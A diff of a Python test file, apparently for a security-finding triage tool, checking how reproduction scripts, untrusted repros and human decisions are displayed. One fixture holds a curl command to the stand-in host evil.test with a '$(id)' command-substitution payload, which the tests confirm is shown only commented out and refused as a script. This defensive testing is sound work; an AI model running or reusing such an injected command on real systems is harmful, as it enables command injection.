@@ -314,24 +314,30 @@ def test_an_item_that_is_only_on_the_log_is_shown(state: Path) -> None:
     data = json.loads(said.stdout)
     assert (data["fingerprint"], data["item"]["rank"]) == ("abcdef012345", 1)
     assert [one["reason"] for one in data["decisions"]] == ["after the release"]
-    assert data["shell"] == [
-        "curl -sS --globoff --path-as-is --proto =http,https --max-time 30 -i --url http://site.test/llms.txt"
+    assert data["page"]["where"] == ["GET http://site.test/llms.txt"]
+    assert data["page"]["script"].splitlines()[-2:] == [
+        "curl -sS --globoff --path-as-is --max-time 30 -i \\",
+        "  --url http://site.test/llms.txt",
     ]
+    script = shown("00ff", "--script").stdout
+    assert script == data["page"]["script"]
     assert (data["history"], data["evidence_files"]) == ([], [])
 
 
 def test_a_strangers_repro_is_shown_on_demand_and_marked(state: Path) -> None:
     anyio.run(journalled, state)
     plain = shown("5555").stdout
-    assert "repro: a stranger's is withheld; --untrusted shows it" in plain
+    assert "Repro: a stranger's is withheld; --untrusted shows it" in plain
     assert "evil.test/$" not in plain
     asked = shown("5555", "--untrusted").stdout
-    assert "a stranger's repro, never run by the fleet: qa_fetch" in asked
-    commands = [line for line in asked.splitlines() if "curl" in line]
-    assert len(commands) == 1
-    assert commands[0].startswith("  # curl ")
-    assert commands[0].endswith("--url 'http://evil.test/$(id)'")
+    assert "A stranger's repro, never run by the fleet:" in asked
+    commands = asked[asked.index("at your own risk:") :].splitlines()[1:]
+    commands = commands[: next(at for at, one in enumerate(commands) if "# " not in one)]
+    assert commands[-1] == "  #   --url 'http://evil.test/$(id)'"
+    assert all(one.startswith("  # ") for one in commands)
     assert "\x1b" not in asked
+    refused = shown("5555", "--script").exception
+    assert getattr(refused, "rule", "") == "untrusted"
 
 
 def test_what_a_person_decided_is_shown_with_what_was_undone(state: Path) -> None:
@@ -368,12 +374,9 @@ def test_what_a_person_decided_is_shown_with_what_was_undone(state: Path) -> Non
     anyio.run(decided)
     said = shown("abcdef")
     assert said.exit_code == 0, said.output
-    assert said.stdout.splitlines()[0].split() == ["critical", "about", "abcdef012345"]
-    lines = [line for line in said.stdout.splitlines() if line.startswith("decision: ")]
-    assert lines == [
-        f"decision: severity low (undone) by ann, {AT}: internal",
-        f"decision: undo {'a' * 12} by ann, {AT}: no",
-    ]
+    assert said.stdout.splitlines()[0].split()[-2:] == ["about", "abcdef012345"]
+    lines = [line.strip() for line in said.stdout.splitlines() if " by ann: " in line]
+    assert lines == ["severity low (undone) by ann: internal", f"undo {'a' * 12} by ann: no"]
     data = json.loads(shown("abcdef", "--json").stdout)
     assert [one["stands"] for one in data["decisions"]] == [False, True]
 
